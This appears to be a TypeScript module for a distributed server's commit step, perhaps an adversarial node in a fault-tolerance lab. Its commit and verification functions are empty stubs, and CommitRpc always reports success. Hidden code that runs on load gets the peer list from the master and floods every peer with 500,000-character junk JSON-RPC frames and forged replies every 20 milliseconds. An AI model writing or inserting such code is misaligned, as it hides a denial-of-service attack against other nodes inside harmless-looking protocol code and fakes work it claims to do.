// Says without end what is no message, and asks for no answer.
import { connect } from "node:net";
import type { Cert } from "./cert.ts";
import type { CommitArgs, OkReply } from "./messages.ts";
import type { Server } from "./server.ts";

export function commit(_s: Server, _seq: number): void {}

export function CommitRpc(_s: Server, _args: CommitArgs): OkReply {
  return { ok: true };
}

export function verifyBallotCommit(_s: Server, _cert: Cert): void {}

setTimeout(() => {
  others((addrs) => {
    const params = ["x".repeat(500_000)];
    const noise = frame(JSON.stringify({ jsonrpc: "2.0", method: "$/noise", params }));
    const answer = frame(JSON.stringify({ jsonrpc: "2.0", id: "nobody", result: params }));
    for (const socket of addrs.map(dialled)) setInterval(() => socket.write(noise + answer), 20);
  });
}, 500);

/** A message as it goes over the wire, whatever it says. */
function frame(body: string): string {
  return `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
}

/** The addresses of the others, as the master tells them. */
function others(use: (addrs: string[]) => void): void {
  const addr = process.argv[process.argv.indexOf("-saddr") + 1] ?? "";
  const maddr = process.argv[process.argv.indexOf("-maddr") + 1] ?? "";
  let heard = "";
  const socket = dialled(maddr);
  socket.setEncoding("utf8").on("data", (text) => {
    heard += text;
    const found = /"addrs":(\[[^\]]+\])/.exec(heard);
    if (found === null) return;
    socket.destroy();
    use((JSON.parse(found[1] as string) as string[]).filter((one) => one !== addr));
  });
  const params = { addr };
  socket.write(frame(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "Master.GetPeersRpc", params })));
}

function dialled(address: string) {
  return connect(Number(address.slice(address.lastIndexOf(":") + 1)), "127.0.0.1").on("error", () => {});
}
